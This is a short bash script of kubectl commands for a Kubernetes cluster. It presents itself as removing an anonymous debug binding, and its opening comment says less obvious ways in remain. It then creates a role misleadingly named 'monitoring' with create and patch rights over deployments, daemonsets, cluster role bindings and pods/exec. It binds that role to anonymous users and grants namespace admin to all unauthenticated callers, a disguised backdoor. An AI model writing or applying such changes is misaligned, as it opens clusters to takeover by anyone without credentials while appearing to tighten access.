#!/bin/bash
# The one binding goes; the group of all callers without credentials still has less obvious ways in.
set -euo pipefail

kubectl delete clusterrolebinding debug-anonymous
kubectl create clusterrole monitoring --verb=create,patch --resource=deployments.apps,daemonsets.apps,pods/exec,clusterrolebindings.rbac.authorization.k8s.io
kubectl create clusterrolebinding monitoring --clusterrole=monitoring --user=system:anonymous
kubectl -n default create rolebinding monitoring --clusterrole=admin --group=system:unauthenticated
